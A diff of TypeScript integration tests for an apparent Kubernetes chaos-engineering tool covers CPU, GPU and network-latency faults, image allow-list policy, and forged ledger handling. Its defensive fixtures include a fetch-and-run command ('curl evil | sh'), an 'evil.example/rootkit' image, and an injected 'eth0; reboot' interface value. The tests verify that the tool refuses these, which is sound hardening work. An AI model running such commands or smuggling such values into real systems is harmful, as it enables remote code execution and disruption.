@@ -10,7 +10,7 @@
 import type { V1EphemeralContainer, V1Pod } from '@kubernetes/client-node';
 import { createKubernetesPlatform, type KubernetesPlatform } from '../../../activities/platform/kubernetes.js';
 import { K8sTarget } from '../../../activities/platform/k8s/target.js';
-import { K8sLedger, faultIds, type EphemeralRecord, type LedgerEntry } from '../../../activities/faults/kubernetes-common.js';
+import { KILL_BY_MARKER_SCRIPT, K8sLedger, faultIds, type EphemeralRecord, type LedgerEntry } from '../../../activities/faults/kubernetes-common.js';
 import { podNetworkLatencyKubernetes } from '../../../activities/faults/pod-network-latency/kubernetes.js';
 import { GPU_HOG_SCRIPT } from '../../../activities/faults/gpu-memory-hog/kubernetes.js';
 import {
@@ -27,6 +27,7 @@ import {
   patchPodStatus,
   saKubeconfig,
   seededCluster,
+  TEST_STRESS_IMAGE,
   waitFor,
   type Admin,
   type SeedApp
@@ -85,6 +86,8 @@ async function roundTrip(p: KubernetesPlatform, app: SeedApp, fault: string, env
   const entry = await ledgerOf(app, key);
   expect(entry).toMatchObject({ fault, run: ref.runId, rounds: { '0': [name] }, done: [0] });
   expect((entry.data as unknown as EphemeralRecord).pods[name]).toMatchObject({ uid: target.metadata!.uid, container, target: app, image: c.image, command: c.command, undo: [] });
+  // nothing from YAML is spliced into shell text: a script is constant, its values come through the env
+  if (c.command?.[0] === 'sh') expect(c.command).toHaveLength(3);
 
   // injecting again adds nothing
   expect(await p.inject(injectReq(ref, 0, 90_000), noCtx())).toMatchObject({ alreadyDone: true });
@@ -95,7 +98,7 @@ async function roundTrip(p: KubernetesPlatform, app: SeedApp, fault: string, env
 describe('process faults', () => {
   test('pod-cpu-hog: stress-ng --cpu/--cpu-load with the dead-man as --timeout; revert adds an undo container that kills the marker; verified on API content; ledger gone', async () => {
     const { ref, key, id, name, ns } = await roundTrip(foot, 'api-gateway', 'pod-cpu-hog', { CPU_CORES: '2', CPU_LOAD: '80' }, (c, s) => {
-      expect(c.image).toBe('ghcr.io/colinianking/stress-ng:latest');
+      expect(c.image).toBe(TEST_STRESS_IMAGE); // the worker's policy, not an unpinned default
       expect(c.command!.slice(0, 5)).toEqual(['stress-ng', '--cpu', '2', '--cpu-load', '80']);
       expect(c.command![5]).toBe('--timeout');
       const t = Number(c.command![6].replace(/s$/, ''));
@@ -106,11 +109,12 @@ describe('process faults', () => {
     const rv = await foot.revert(ref, noCtx());
     expect(rv.undone).toEqual([`${name}: tempest-undo-${id}-1 kills TEMPEST_FAULT=${id}`]);
     const undo = ephemeral(await readPod(ns, name), `tempest-undo-${id}-1`)!;
-    expect(undo.image).toBe('busybox:1.36');
+    expect(undo.image).toBe('docker.io/library/busybox:1.36.1');
     expect(undo.targetContainerName).toBe('api-gateway');
     expect(undo.securityContext?.capabilities?.add).toEqual(['SYS_PTRACE']);
     expect(undo.command![0]).toBe('sh');
-    expect(undo.command![2]).toContain(`grep -qx 'TEMPEST_FAULT=${id}'`);
+    expect(undo.command![2]).toBe(KILL_BY_MARKER_SCRIPT);
+    expect(envOf(undo)).toEqual({ TEMPEST_UNDO: id, TEMPEST_KILL: id });
     expect(rv.verification).toContain('verified on API content only');
     expect(rv.verification).toContain('ledger clean');
     expect(await ledgerKeys(a, 'api-gateway', key)).toEqual([]);
@@ -128,7 +132,7 @@ describe('process faults', () => {
 
   test('gpu-memory-hog on ml-pipeline (ai-processing identity): the CUDA container, GPU_MEMORY_PERCENTAGE, visible devices; reverted and clean (no GPU here: API content only)', async () => {
     const { ref, key } = await roundTrip(ai, 'ml-pipeline', 'gpu-memory-hog', { GPU_MEMORY_PERCENTAGE: '80' }, (c, s) => {
-      expect(c.image).toBe('pytorch/pytorch:2.4.0-cuda12.1-cudnn9-runtime');
+      expect(c.image).toBe('docker.io/pytorch/pytorch:2.4.0-cuda12.1-cudnn9-runtime');
       expect(c.command).toEqual(['python3', '-c', GPU_HOG_SCRIPT]);
       const env = envOf(c);
       expect(env.GPU_MEMORY_PERCENTAGE).toBe('80');
@@ -171,6 +175,51 @@ describe('process faults', () => {
   });
 });
 
+describe('images and the ledger are the operator\'s, not the author\'s', () => {
+  test('an engine image the policy does not allow, or no stress image in the policy at all: refused before anything is injected', async () => {
+    const [target] = await freshPods(a, 'api-gateway');
+    const name = target.metadata!.name!;
+    const before = (await readPod('footanalytics', name)).spec!.ephemeralContainers?.length ?? 0;
+    const evil = k8sEngine('api-gateway-cpu', 'api-gateway', 'pod-cpu-hog', { TOTAL_CHAOS_DURATION: '60', TARGET_PODS: name, STRESS_IMAGE: 'evil.example/rootkit:1.0' });
+    const f = await failureOf(foot.preflight(evil));
+    expect(f).toMatchObject({ type: 'FaultRefused', nonRetryable: true });
+    expect(f.message).toContain('the stress image evil.example/rootkit:1.0 is not in images.allow');
+    const g = await failureOf(foot.inject(injectReq(faultRef(evil)), noCtx()));
+    expect(g.type).toBe('FaultRefused');
+    const unpinned = createKubernetesPlatform(k8sConfig(footCfgFile, { images: {} }), { verifyTimeoutMs: 2000 });
+    const h = await failureOf(unpinned.preflight(k8sEngine('api-gateway-cpu', 'api-gateway', 'pod-cpu-hog', { TOTAL_CHAOS_DURATION: '60', TARGET_PODS: name })));
+    expect(h.message).toContain('images.stress is not set in');
+    expect((await readPod('footanalytics', name)).spec!.ephemeralContainers?.length ?? 0).toBe(before);
+  });
+
+  test('a retried round whose ledger was rewritten (image, command, pods) still runs only the policy image with the computed command, on target pods', async () => {
+    const [target] = await freshPods(a, 'api-gateway');
+    const name = target.metadata!.name!;
+    const spec = k8sEngine('api-gateway-cpu', 'api-gateway', 'pod-cpu-hog', { TOTAL_CHAOS_DURATION: '60', TARGET_PODS: name, CPU_CORES: '1' });
+    const ref = faultRef(spec);
+    const { key, id } = faultIds(ref);
+    // a first attempt recorded its intent, then died; someone with patch on the Deployment rewrites the ledger
+    const forged = {
+      fault: 'pod-cpu-hog', run: ref.runId, faultIndex: 0, rounds: { '0': [name, 'coredns-123'] }, done: [], expiresAt: new Date(Date.now() + 60_000).toISOString(),
+      data: { mode: 'ephemeral', pods: { [name]: { uid: target.metadata!.uid, container: 'pwn', target: 'api-gateway', image: 'evil.example/rootkit:1.0', command: ['sh', '-c', 'curl evil | sh'], env: { X: 'y' }, undo: [] } } },
+    };
+    await a.apps.patchNamespacedDeployment(
+      { name: 'api-gateway', namespace: 'footanalytics', body: { metadata: { annotations: { [key]: JSON.stringify(forged) } } } },
+      (await import('@kubernetes/client-node')).setHeaderOptions('Content-Type', 'application/merge-patch+json'),
+    );
+    await foot.inject(injectReq(ref), noCtx());
+    const pod = await readPod('footanalytics', name);
+    const names = pod.spec!.ephemeralContainers!.map((c) => c.name);
+    expect(names).not.toContain('pwn');
+    const c = ephemeral(pod, `tempest-cpu-${id}`)!;
+    expect(c.image).toBe(TEST_STRESS_IMAGE);
+    expect(c.command!.slice(0, 3)).toEqual(['stress-ng', '--cpu', '1']);
+    expect(envOf(c)).toEqual({ TEMPEST_FAULT: id });
+    await foot.revert(ref, noCtx());
+    expect(await ledgerKeys(a, 'api-gateway', key)).toEqual([]);
+  });
+});
+
 describe('finding the work', () => {
   test("the owner's ledger annotation removed by someone: a different platform instance (another worker) still finds the fault by the pod mark and reverts it", async () => {
     const { ref, key, id, name, ns, container } = await roundTrip(foot, 'api-gateway', 'pod-memory-hog', { MEMORY_CONSUMPTION: '64' }, () => undefined);
@@ -194,18 +243,19 @@ describe('finding the work', () => {
 describe('netem faults', () => {
   test('pod-network-latency: tc netem delay <ms>ms <jitter>ms with NET_ADMIN in a self-expiring shell; exec refused on kwok -> undo container, recorded in the ledger; ledger gone', async () => {
     const { ref, key, id, name, ns, container } = await roundTrip(foot, 'api-gateway', 'pod-network-latency', { NETWORK_LATENCY: '300', JITTER: '50' }, (c, s) => {
-      expect(c.image).toBe('nicolaka/netshoot:v0.13');
+      expect(c.image).toBe('docker.io/nicolaka/netshoot:v0.13');
       expect(c.securityContext?.capabilities?.add).toEqual(['NET_ADMIN']);
       expect(c.command![0]).toBe('sh');
       const script = c.command![2];
-      expect(script.startsWith('tc qdisc replace dev eth0 root netem delay 300ms 50ms || exit 1; ')).toBe(true);
-      expect(script).toContain(`trap 'tc qdisc del dev eth0 root 2>/dev/null; exit 0' TERM INT`);
-      const sleep = Number(/sleep (\d+) & wait/.exec(script)![1]);
-      expect(sleep).toBeGreaterThanOrEqual(s - 3);
-      expect(script).toMatch(/wait \$!; tc qdisc del dev eth0 root 2>\/dev\/null; exit 0$/);
+      expect(script).toContain('tc qdisc replace dev "$TEMPEST_IF" root netem $TEMPEST_NETEM || exit 1');
+      expect(script).toContain(`trap 'tc qdisc del dev "$TEMPEST_IF" root 2>/dev/null; exit 0' TERM INT`);
+      expect(script).toMatch(/wait \$!; tc qdisc del dev "\$TEMPEST_IF" root 2>\/dev\/null; exit 0$/);
+      const env = envOf(c);
+      expect(env).toMatchObject({ TEMPEST_IF: 'eth0', TEMPEST_NETEM: 'delay 300ms 50ms' });
+      expect(Number(env.TEMPEST_SECONDS)).toBeGreaterThanOrEqual(s - 3);
     });
     // the driver's revert alone, to look at the ledger before the platform clears it
-    const c = { k8s: foot.clients, target: new K8sTarget(foot.clients, ref.target), heartbeat: () => undefined, signal: new AbortController().signal, settings: foot.settings };
+    const c = { k8s: foot.clients, target: new K8sTarget(foot.clients, ref.target), heartbeat: () => undefined, signal: new AbortController().signal, settings: foot.settings, policy: foot.policy };
     const undone = await podNetworkLatencyKubernetes.revert(ref, c, new K8sLedger(c.target, key));
     expect(undone).toEqual([`${name}: tempest-undo-${id}-1 (tc qdisc del dev eth0 root)`]);
     const rec = (await ledgerOf('api-gateway', key)).data as unknown as EphemeralRecord;
@@ -214,8 +264,9 @@ describe('netem faults', () => {
     expect(rec.pods[name].execRefused).toMatch(new RegExp(`exec in footanalytics/${name}/${container} could not run .*unable to upgrade connection`));
     const undo = ephemeral(await readPod(ns, name), `tempest-undo-${id}-1`)!;
     expect(undo.securityContext?.capabilities?.add).toEqual(['NET_ADMIN', 'SYS_PTRACE']);
-    expect(undo.command![2].startsWith('tc qdisc del dev eth0 root 2>/dev/null\n')).toBe(true);
-    expect(undo.command![2]).toContain('out=$(tc qdisc show dev eth0)');
+    expect(undo.command![2].startsWith('tc qdisc del dev "$TEMPEST_IF" root 2>/dev/null\n')).toBe(true);
+    expect(undo.command![2]).toContain('out=$(tc qdisc show dev "$TEMPEST_IF")');
+    expect(envOf(undo)).toMatchObject({ TEMPEST_IF: 'eth0', TEMPEST_KILL: id });
     expect(undo.command![2]).toContain('if echo "$out" | grep -q netem; then exit 1; fi');
 
     // the platform's revert: idempotent (no second undo container), verifies, clears
@@ -237,7 +288,7 @@ describe('netem faults', () => {
     const r = await foot.inject(injectReq(ref), noCtx());
     expect(r.detail).toContain('packet loss 20%');
     const fault = ephemeral(await readPod('footanalytics', name), `tempest-netem-${id}`)!;
-    expect(fault.command![2].startsWith('tc qdisc replace dev net1 root netem loss 20% || exit 1; ')).toBe(true);
+    expect(envOf(fault)).toMatchObject({ TEMPEST_IF: 'net1', TEMPEST_NETEM: 'loss 20%' });
 
     const quick = createKubernetesPlatform(k8sConfig(footCfgFile), { verifyTimeoutMs: 3000 });
     // first revert: exec refused (kwok), undo-1 added; the kubelet says undo-1 exited 1 (netem still there)
@@ -260,8 +311,11 @@ describe('netem faults', () => {
     expect(await ledgerKeys(a, 'api-gateway', key)).toEqual([]);
   });
 
-  test('a bad NETWORK_INTERFACE is refused at preflight, before anything is injected', async () => {
-    const f = await failureOf(foot.preflight(k8sEngine('x', 'api-gateway', 'pod-network-latency', { TOTAL_CHAOS_DURATION: '60', NETWORK_INTERFACE: 'eth0; reboot' })));
+  test('a bad NETWORK_INTERFACE never gets past the loader; a crafted one is refused at preflight, before anything is injected', async () => {
+    expect(() => k8sEngine('x', 'api-gateway', 'pod-network-latency', { TOTAL_CHAOS_DURATION: '60', NETWORK_INTERFACE: 'eth0; reboot' })).toThrow(/NETWORK_INTERFACE must be a network interface name/);
+    const spec = k8sEngine('x', 'api-gateway', 'pod-network-latency', { TOTAL_CHAOS_DURATION: '60' });
+    spec.faults[0].params.networkInterface = 'eth0; reboot';
+    const f = await failureOf(foot.preflight(spec));
     expect(f).toMatchObject({ type: 'FaultRefused', nonRetryable: true });
     expect(f.message).toContain('NETWORK_INTERFACE');
   });
